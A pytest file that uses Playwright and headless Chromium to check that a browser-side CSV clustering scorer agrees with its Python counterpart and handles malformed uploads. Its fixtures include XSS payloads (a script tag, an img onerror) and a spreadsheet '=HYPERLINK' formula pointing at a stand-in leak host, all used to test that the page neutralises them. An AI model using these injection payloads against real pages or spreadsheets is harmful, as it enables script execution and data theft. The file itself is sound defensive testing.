"""The in-browser scorer (site/_static/scorer.js) in headless Chromium, against `c2c score`.

A temporary folder holds a page made of the HTML block of site/score.md, scorer.js and a
model.json built in the test; Python's http.server serves it on 127.0.0.1. Every test fails on a
console error or on a request to any other host. Screenshots go to test-output/.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import numpy as np
import pandas as pd
import pytest

from analysis.bench import kernels
from analysis.config import PROJECT_ROOT
from analysis.intake.kinds import EXPECTED_TEXT, PATTERNS
from analysis.scoring import output
from analysis.scoring import score as scoring
from tests.browser import launched_chromium, served
from tests.limits import LIMITS
from tests.scoring_helpers import assert_same_csv, build_test_model, write_model
from tests.synthetic import make_users

pytestmark = pytest.mark.browser

SCORE_PAGE = PROJECT_ROOT / "site" / "score.md"
SCORER_JS = PROJECT_ROOT / "site" / "_static" / "scorer.js"
OUTPUT = PROJECT_ROOT / "test-output"
HOSTILE_SCRIPT = "<script>window.__pwned=1</script>"
HOSTILE_IMG = '<img src=x onerror="window.__pwned=1">'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'


def score_block() -> str:
    """The raw HTML block of site/score.md (what the Sphinx page embeds)."""
    text = SCORE_PAGE.read_text(encoding="utf-8")
    match = re.search(r"```\{raw\} html\n(.*?)\n```", text, re.S)
    assert match, "site/score.md has no {raw} html block"
    return match.group(1)


# --------------------------------------------------------------------------------------------
# Fixtures: browser, served folder, page with guards
# --------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def browser():
    with launched_chromium() as chromium:
        yield chromium


@pytest.fixture(scope="module")
def model() -> dict:
    return build_test_model(make_users(600, seed=0))


@pytest.fixture(scope="module")
def site(tmp_path_factory, model) -> Path:
    root = tmp_path_factory.mktemp("site")
    static = root / "_static"
    static.mkdir()
    shutil.copy(SCORER_JS, static / "scorer.js")
    write_model(model, static / "model.json")
    (root / "index.html").write_text(
        '<!doctype html>\n<html lang="en"><head><meta charset="utf-8">'
        '<title>Score users (test page)</title><link rel="icon" href="data:,"></head>\n'
        f"<body><main>\n{score_block()}\n</main></body></html>\n", encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def server(site):
    with served(site) as url:
        yield url


@dataclass
class Browsing:
    """A page on the served folder plus what the guards saw."""

    page: object
    errors: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    fetches: list[str] = field(default_factory=list)


@pytest.fixture
def tab(browser, server):
    context = browser.new_context(accept_downloads=True, viewport={"width": 1200, "height": 900})
    page = context.new_page()
    seen = Browsing(page)

    def on_console(msg) -> None:
        if msg.type == "error":
            seen.errors.append(msg.text)

    def on_request(request) -> None:
        url = urlsplit(request.url)
        if url.scheme not in ("blob", "data") and url.hostname != "127.0.0.1":
            seen.foreign.append(request.url)
        if request.resource_type in ("fetch", "xhr"):
            seen.fetches.append(url.path)

    page.on("console", on_console)
    page.on("pageerror", lambda err: seen.errors.append(f"page error: {err}"))
    page.on("request", on_request)
    page.goto(f"{server}/index.html")
    page.wait_for_selector("#c2c-scorer[data-ready='true']", timeout=15_000)
    yield seen
    context.close()
    assert seen.errors == [], f"console errors: {seen.errors}"
    assert seen.foreign == [], f"requests to other hosts: {seen.foreign}"
    assert all(p.endswith(".json") and "/_static/" in p for p in seen.fetches), seen.fetches


def upload(tab: Browsing, name: str, data: bytes) -> None:
    """Choose a file in the page's file input and wait until it is scored or refused."""
    page = tab.page
    page.evaluate("() => { document.querySelector('.c2c-status').textContent = ''; }")
    page.set_input_files(".c2c-file", files=[{"name": name, "mimeType": "text/csv",
                                              "buffer": data}])
    page.wait_for_function(
        "() => { const s = document.querySelector('.c2c-status').textContent;"
        " return s.startsWith('Scored') || s.startsWith('Choose') ||"
        " !document.querySelector('.c2c-message').hidden; }", timeout=30_000)


def message(tab: Browsing) -> str:
    return tab.page.locator(".c2c-message").inner_text()


def screenshot(tab: Browsing, name: str) -> None:
    OUTPUT.mkdir(exist_ok=True)
    tab.page.screenshot(path=str(OUTPUT / name), full_page=True)


def js_score(tab: Browsing, text: str, algorithm: str | None = None, k: int | None = None
             ) -> dict:
    """window.c2cScorer.scoreText in the page, as plain data (or {'error': message})."""
    return tab.page.evaluate("""([text, algorithm, k]) => {
        try {
            const r = c2cScorer.scoreText(text, {algorithm, k});
            return {accepted: r.accepted, rejected: r.rejected.map(x => [x.line, x.reject_reason]),
                    rowsIn: r.rowsIn, extra: r.extraColumns, algorithm: r.algorithm, k: r.k,
                    scoredCsv: c2cScorer.scoredCsv(r), rejectedCsv: c2cScorer.rejectedCsv(r)};
        } catch (e) { return {error: e.message, name: e.name}; }
    }""", [text, algorithm, k])


def py_score(text: str, model: dict, tmp_path: Path, algorithm=None, k=None):
    """The Python scorer on the same text through a file, plus the bytes it writes."""
    path = tmp_path / "input.csv"
    path.write_bytes(text.encode("utf-8"))
    result = scoring.score_file(path, model, algorithm, k, limits=LIMITS)
    out, rej = tmp_path / "out.csv", tmp_path / "rej.csv"
    output.write_outputs(result, out, rej)
    return result, out.read_bytes().decode("utf-8"), rej.read_bytes().decode("utf-8")


def assert_same(js: dict, py: scoring.ScoreResult, py_out: str, py_rej: str) -> float:
    """Identical ids, clusters, tiers, rejects and files; returns the largest distance gap."""
    assert "error" not in js, js
    assert js["rowsIn"] == py.rows_in
    assert [a["identifierHash"] for a in js["accepted"]] == \
        [str(v) for v in py.scored["identifierHash"]]
    assert [a["cluster"] for a in js["accepted"]] == py.scored["cluster"].tolist()
    assert [a["tier"] for a in js["accepted"]] == py.scored["tier"].astype(str).tolist()
    gap = 0.0
    if len(py.scored):
        gap = max(float(np.abs(np.array([a["distance"] for a in js["accepted"]]) -
                               py.scored["distance"].to_numpy()).max()),
                  float(np.abs(np.array([a["margin"] for a in js["accepted"]]) -
                               py.scored["margin"].to_numpy()).max()))
    assert gap <= 1e-9
    assert js["rejected"] == [[int(line), reason] for line, reason in
                              zip(py.rejected["line"], py.rejected["reject_reason"], strict=True)]
    assert_same_csv(js["scoredCsv"], py_out)
    assert_same_csv(js["rejectedCsv"], py_rej)
    return gap


# --------------------------------------------------------------------------------------------
# Real data: parity on 1,000 rows, timing on 100,000
# --------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def real_lines(real_data) -> list[str]:
    """The real file's lines (header first), read from the zip into memory at test time."""
    with zipfile.ZipFile(real_data) as archive:
        text = archive.read(archive.namelist()[0]).decode("utf-8")
    lines = text.splitlines()
    assert len(lines) == 98_914
    return lines


@pytest.fixture(scope="module")
def real_model(real_data) -> dict:
    from analysis.intake.reader import load_users

    return build_test_model(load_users(real_data, LIMITS), kmeans_ks=(3, 4, 6), ward_ks=(3, 5),
                            chosen=("kmeans", 4), ward_rows=3000)


def test_parity_with_python_on_1000_real_rows(tab, site, real_lines, real_model, tmp_path, capsys):
    write_model(real_model, site / "_static" / "model-real.json")
    tab.page.evaluate("url => c2cScorer.loadModel(url).then(() => true)", "model-real.json")
    rng = np.random.default_rng(2024)
    rows = sorted(rng.choice(np.arange(1, len(real_lines)), size=1000, replace=False))
    text = "\n".join([real_lines[0]] + [real_lines[i] for i in rows]) + "\n"
    report = []
    for sol in real_model["solutions"]:
        alg, k = sol["algorithm"], sol["k"]
        py, py_out, py_rej = py_score(text, real_model, tmp_path, alg, k)
        js = js_score(tab, text, alg, k)
        gap = assert_same(js, py, py_out, py_rej)
        assert len(py.scored) == 1000 and js["algorithm"] == alg and js["k"] == k
        report.append(f"{alg} k={k}: 1000/1000 same cluster+tier, max |Δ| {gap:.1e}")
    default = js_score(tab, text)
    assert (default["algorithm"], default["k"]) == ("kmeans", 4)
    with capsys.disabled():
        print("\n[parity] " + "; ".join(report))


def test_math_log1p_agrees_with_numpy(tab, capsys):
    """Informational: Chromium's Math.log1p against NumPy's on the integers counts take."""
    n = 200_000
    js = np.array(tab.page.evaluate(
        "n => Array.from({length: n}, (_, i) => Math.log1p(i))", n))
    py = np.log1p(np.arange(n, dtype=np.float64))
    differ = int((js != py).sum())
    with capsys.disabled():
        print(f"\n[log1p] Math.log1p vs np.log1p on 0..{n - 1}: {differ} differ "
              f"(max |Δ| {float(np.abs(js - py).max()):.1e})")
    assert float(np.abs(js - py).max()) <= 1e-12


def test_100k_rows_timing(tab, site, real_data, real_model, tmp_path, capsys):
    """Scores 100,000 real-like rows in the page; prints the time (not asserted)."""
    from analysis.intake.reader import load_users

    write_model(real_model, site / "_static" / "model-real.json")
    tab.page.evaluate("url => c2cScorer.loadModel(url).then(() => true)", "model-real.json")
    users = load_users(real_data, LIMITS)
    big = kernels.resample_rows(users, 100_000, seed=3)
    big["identifierHash"] = np.arange(100_000, dtype=np.int64) * 7919 - 10**12  # unique ids
    full_text = big.to_csv(index=False)
    ms = tab.page.evaluate("""text => {
        const t0 = performance.now();
        const r = c2cScorer.scoreText(text, {});
        const ms = performance.now() - t0;
        return [ms, r.accepted.length, r.rejected.length];
    }""", full_text)
    assert ms[1] == 100_000 and ms[2] == 0
    # The same through the page's file input (model columns only, to stay under 10 MB), while
    # a 10 ms interval timer measures the longest stretch the page did not respond, from the
    # file input's change event on (Playwright's own transfer of the file comes before it).
    narrow = big[real_model["required_columns"]].to_csv(index=False).encode()
    tab.page.evaluate("""() => { window.__gap = 0; window.__last = null;
        document.querySelector('.c2c-file').addEventListener('change', () => {
            window.__last = performance.now(); }, {capture: true});
        window.__tick = setInterval(() => { if (window.__last === null) return;
            const now = performance.now();
            window.__gap = Math.max(window.__gap, now - window.__last); window.__last = now; }, 10);
    }""")
    upload(tab, "big.csv", narrow)
    ui = tab.page.evaluate("() => { clearInterval(window.__tick);"
                           " return [c2cScorer.lastTiming, window.__gap]; }")
    assert "100,000 scored" in tab.page.locator(".c2c-summary").inner_text()
    path = tmp_path / "big.csv"
    path.write_text(full_text)
    t0 = time.perf_counter()
    scoring.score_file(path, real_model, limits=LIMITS)
    py_s = time.perf_counter() - t0
    with capsys.disabled():
        print(f"\n[browser] scoreText 100,000 rows x 24 columns: {ms[0]:.0f} ms; "
              f"file input {len(narrow) / 1e6:.1f} MB, choose -> tables: "
              f"{ui[0]['totalMs']:.0f} ms, "
              f"longest unresponsive stretch {ui[1]:.0f} ms; "
              f"Python score_file same rows: {py_s * 1000:.0f} ms ({100_000 / py_s:,.0f} rows/s)")
    screenshot(tab, "score-page-100k.png")


# --------------------------------------------------------------------------------------------
# Rules: the browser rejects what Python rejects, with the same words
# --------------------------------------------------------------------------------------------

def test_patterns_and_phrases_are_the_projects(tab):
    got = tab.page.evaluate("() => [c2cScorer.patterns, c2cScorer.expectedText]")
    assert got[0] == PATTERNS
    assert got[1] == EXPECTED_TEXT


def broken_users() -> pd.DataFrame:
    users = make_users(60, seed=11).astype(str)
    edits = {
        (0, "identifierHash"): "-1.0979E+18", (1, "identifierHash"): "",
        (2, "identifierHash"): "9223372036854775808", (3, "identifierHash"): "0042",
        (4, "productsSold"): "-3", (5, "productsSold"): "1.5", (6, "productsSold"): "",
        (7, "socialNbFollowers"): "x" * 80, (8, "daysSinceLastLogin"): "99999",
        (9, "daysSinceLastLogin"): "-0", (10, "seniority"): "n/a",
        (11, "productsWished"): " 3", (12, "productsBought"): "٣",  # an Arabic-Indic digit
        (13, "country"): HOSTILE_SCRIPT, (13, "productsListed"): HOSTILE_IMG,
        (14, "identifierHash"): HOSTILE_IMG, (15, "country"): HYPERLINK,
        (15, "productsBought"): "lots", (16, "daysSinceLastLogin"): "abc",
        (17, "socialNbFollows"): "1e3", (18, "productsSold"): "😀" * 45,
        (19, "identifierHash"): "-9223372036854775808", (20, "productsListed"): "+4",
    }
    for (row, col), value in edits.items():
        users.loc[row, col] = value
    users.loc[30, "identifierHash"] = users.loc[25, "identifierHash"]
    users.loc[31, "identifierHash"] = users.loc[3, "identifierHash"].lstrip("0")  # 42 vs 0042
    return users


def test_broken_rows_get_the_same_reasons_in_both(tab, model, tmp_path):
    users = broken_users()
    users["<b>extra</b>"] = "1"
    buf = io.StringIO()
    users.to_csv(buf, index=False, lineterminator="\r\n")
    text = buf.getvalue()
    py, py_out, py_rej = py_score(text, model, tmp_path)
    js = js_score(tab, text)
    assert_same(js, py, py_out, py_rej)
    assert js["extra"] == ["<b>extra</b>"] == py.extra_columns
    assert len(js["rejected"]) >= 18
    reasons = dict(js["rejected"])
    assert reasons[18] == f'daysSinceLastLogin "abc" is not {EXPECTED_TEXT["int"]}'
    assert reasons[33] == "duplicate identifierHash (first seen on line 5)"  # 42 == 0042


GARBAGE_POOL = ["", " ", "0", "-0", "007", "+4", "1.0", "1e3", "-1", "12 ", "٣", "abc", '"', '""',
                "a,b", "\r", "\n", "\r\n", "x\ry", "9223372036854775807", "9223372036854775808",
                "-9223372036854775808", "-1.0979E+18", HOSTILE_SCRIPT, HOSTILE_IMG, HYPERLINK,
                "é😀", "\t5", "=1+1", "True", "3205", "99999", "\ufeff1"]


def random_file(rng: np.random.Generator) -> str:
    """A CSV of synthetic users with random garbage cells, ids, line ends, BOM, blank lines."""
    n = int(rng.integers(1, 25))
    users = make_users(n, seed=int(rng.integers(0, 10_000))).astype(str)
    columns = ["identifierHash", "socialNbFollowers", "productsSold", "productsBought",
               "daysSinceLastLogin", "seniority", "country"]
    for _ in range(int(rng.integers(0, 2 * n + 1))):
        users.iloc[int(rng.integers(0, n)), users.columns.get_loc(str(rng.choice(columns)))] = \
            str(rng.choice(GARBAGE_POOL))
    for _ in range(int(rng.integers(0, 3))):
        src, dst = rng.integers(0, n, 2)
        users.iloc[dst, 0] = users.iloc[src, 0]
    if rng.random() < 0.3:
        users = users.drop(columns=["seniority"])
    ending = str(rng.choice(["\r\n", "\n"]))  # "\n" leaves lone CRs unquoted: ragged rows
    buf = io.StringIO()
    users.to_csv(buf, index=False, lineterminator=ending)
    text = buf.getvalue()
    if rng.random() < 0.3:
        header, rest = text.split(ending, 1)
        text = header + ending + ending + rest + ending  # blank lines
    if rng.random() < 0.2:
        text = "\ufeff" + text
    return text


LONE_CR = re.compile(r"\r(?!\n)")


def first_sentence(error: str) -> str:
    """An InputError's words after the file label, up to any '(' detail or '; also' list.

    (analysis/io numbers ragged lines by LF only, so with lone CRs its 'also line(s)' list and
    'truncated' hint can differ from the page's, which counts CR, LF and CRLF.)
    """
    return re.split(r" \(|; ", error.split(": ", 1)[1])[0]


def test_random_files_agree(tab, model, tmp_path):
    from analysis.errors import InputError

    rng = np.random.default_rng(77)
    outcomes = {"scored": 0, "file error": 0}
    for _ in range(40):
        text = random_file(rng)
        js = js_score(tab, text)
        try:
            py = py_score(text, model, tmp_path)
        except InputError as err:
            assert js.get("name") == "InputError", (text, js)
            js_words, py_words = first_sentence(js["error"]), first_sentence(str(err))
            if LONE_CR.search(text):  # io numbers lines by LF only
                js_words, py_words = (re.sub(r"line \d+", "line N", w)
                                      for w in (js_words, py_words))
            assert js_words == py_words
            outcomes["file error"] += 1
            continue
        assert_same(js, *py)
        assert js["rowsIn"] == len(js["accepted"]) + len(js["rejected"])
        outcomes["scored"] += 1
    assert min(outcomes.values()) > 0, outcomes


@pytest.mark.parametrize("text", [
    "",
    "\n\n  \n",
    ",".join(make_users(1).columns) + "\n",
    "identifierHash;productsSold\n1;2\n",
    "a,b,a\n1,2,3\n",
    "identifierHash,productsSold\n1,2\n",
    ",".join(make_users(1).columns) + "\n1,2,3\n",
    "bin\u0000ary",
])
def test_file_level_faults_agree(tab, model, tmp_path, text):
    from analysis.errors import InputError

    js = js_score(tab, text)
    assert js.get("name") == "InputError", js
    with pytest.raises(InputError) as raised:
        py_score(text, model, tmp_path)
    # Same sentence after the file label (NUL: io names a byte offset, the page a line).
    assert first_sentence(js["error"]) == first_sentence(str(raised.value))


# --------------------------------------------------------------------------------------------
# The page: results, hostile cells, downloads, bad files, one user
# --------------------------------------------------------------------------------------------

def test_results_chart_table_pager_and_solution_switch(tab, model):
    users = make_users(120, seed=12).astype(str)
    users.loc[3, "productsSold"] = "-1"
    upload(tab, "users.csv", users.to_csv(index=False).encode())
    page = tab.page
    summary = page.locator(".c2c-summary").inner_text()
    assert "120 rows in, 119 scored, 1 rejected (kmeans, k = 4)" in summary
    assert page.locator(".c2c-chart svg rect").count() == 4
    assert page.locator(".c2c-scored tbody tr").count() == 50
    assert "Page 1 of 3" in page.locator(".c2c-scored .c2c-page-info").inner_text()
    page.locator(".c2c-scored .c2c-next").click()
    assert "Page 2 of 3" in page.locator(".c2c-scored .c2c-page-info").inner_text()
    assert page.locator(".c2c-rejected td", has_text='productsSold "-1" is negative').count() == 1
    options = page.locator(".c2c-algorithm option").all_inner_texts()
    assert options == ["kmeans", "ward"]
    assert page.locator(".c2c-algorithm").input_value() == "kmeans"
    assert page.locator(".c2c-k").input_value() == "4"
    screenshot(tab, "score-page-results.png")
    page.select_option(".c2c-algorithm", "ward")
    page.select_option(".c2c-k", "3")
    page.wait_for_function("() => document.querySelector('.c2c-summary').textContent"
                           ".includes('(ward, k = 3)')")
    first = page.locator(".c2c-scored tbody tr").first.locator("td").all_inner_texts()
    assert first[5:7] == ["ward", "3"]


def test_hostile_cells_show_literally_and_downloads_are_neutralised(tab, model, tmp_path):
    users = broken_users()
    text = users.to_csv(index=False)
    upload(tab, "hostile.csv", text.encode())
    page = tab.page
    assert page.evaluate("() => window.__pwned") is None
    assert page.locator("#c2c-scorer img, #c2c-scorer table script").count() == 0
    cells = page.locator(".c2c-rejected td")
    assert cells.filter(has_text=HOSTILE_SCRIPT).count() == 1
    assert cells.filter(has_text=HOSTILE_IMG).count() >= 2  # the id cell and the reasons
    assert cells.filter(has_text=f'daysSinceLastLogin "abc" is not '
                                 f'{EXPECTED_TEXT["int"]}').count() == 1
    screenshot(tab, "score-page-hostile.png")
    # Pages of the rejected table: every one renders without running anything.
    while page.locator(".c2c-rejected .c2c-next").is_enabled():
        page.locator(".c2c-rejected .c2c-next").click()
    assert page.evaluate("() => window.__pwned") is None

    py, py_out, py_rej = py_score(text, model, tmp_path)
    with page.expect_download() as got:
        page.locator(".c2c-download-rejects").click()
    rejected_csv = Path(got.value.path()).read_bytes().decode("utf-8")
    assert got.value.suggested_filename == "rejected.csv"
    assert_same_csv(rejected_csv, py_rej)
    rows = list(csv.reader(io.StringIO(rejected_csv, newline="")))
    flat = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in flat
    risky = [c for c in flat if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky and all(output.PLAIN_NUMBER.fullmatch(c) for c in risky)  # numbers only
    assert "-1.0979E+18" in flat and "+4" in flat  # number-looking cells are left alone
    with page.expect_download() as got:
        page.locator(".c2c-download").click()
    assert_same_csv(Path(got.value.path()).read_bytes().decode("utf-8"), py_out)


@pytest.mark.parametrize(("name", "data", "phrase"), [
    ("empty.csv", b"", "the file is empty"),
    ("header.csv", (",".join(make_users(1).columns) + "\n").encode(), "header but no data rows"),
    ("big.csv", b"identifierHash\n" + b"1\n" * (5 * 1024 * 1024 + 1),
     "more than the 10 MB this page reads"),
    ("binary.csv", bytes(range(256)) * 4, "binary data"),
    ("latin1.csv", "identifierHash,country\n1,Espa\u00f1a\n".encode("latin-1"), "not UTF-8"),
    ("users.zip", b"PK\x03\x04" + b"\x00" * 60, "zip archive"),
    ("semi.csv", b"identifierHash;productsSold\n1;2\n", "semicolon-separated"),
    ("cols.csv", b"identifierHash,productsSold\n1,2\n", "lacks the column(s) the model needs"),
    ("ragged.csv", (",".join(make_users(1).columns) + "\n1,2\n").encode(), "has 2 fields"),
])
def test_bad_files_show_a_clear_message(tab, name, data, phrase):
    upload(tab, name, data)
    page = tab.page
    assert page.locator(".c2c-message").is_visible()
    assert phrase in message(tab)
    assert page.locator(".c2c-results").is_hidden()
    assert page.evaluate("() => 1 + 1") == 2  # still responsive
    if name == "big.csv":
        screenshot(tab, "score-page-too-big.png")
    # The page recovers: a good file right after is scored.
    upload(tab, "good.csv", make_users(5, seed=1).to_csv(index=False).encode())
    assert "5 scored" in page.locator(".c2c-summary").inner_text()


def test_one_user_form_matches_python(tab, model):
    user = make_users(1, seed=21)
    expected = scoring.score_frame(user, model).iloc[0]
    page = tab.page
    for col in model["required_columns"]:
        page.fill(f"#c2c-one-{col}", str(user[col].iloc[0]))
    page.click(".c2c-one button[type=submit]")
    result = page.locator(".c2c-one-result")
    assert result.locator("dd[data-field=cluster]").inner_text() == str(expected["cluster"])
    assert result.locator("dd[data-field=tier]").inner_text() == expected["tier"]
    for name in ("distance", "margin"):  # shown with 6 decimals: within half a unit of them
        shown = float(result.locator(f"dd[data-field={name}]").inner_text())
        assert abs(shown - expected[name]) <= 5e-7 + 1e-12
    page.fill("#c2c-one-identifierHash", HOSTILE_IMG)
    page.fill("#c2c-one-productsSold", "-1")
    page.click(".c2c-one button[type=submit]")
    items = result.locator("li").all_inner_texts()
    assert items == [f'identifierHash "{HOSTILE_IMG}" is not {EXPECTED_TEXT["int64"]}',
                     'productsSold "-1" is negative']
    assert page.evaluate("() => window.__pwned") is None
    screenshot(tab, "score-page-one-user.png")
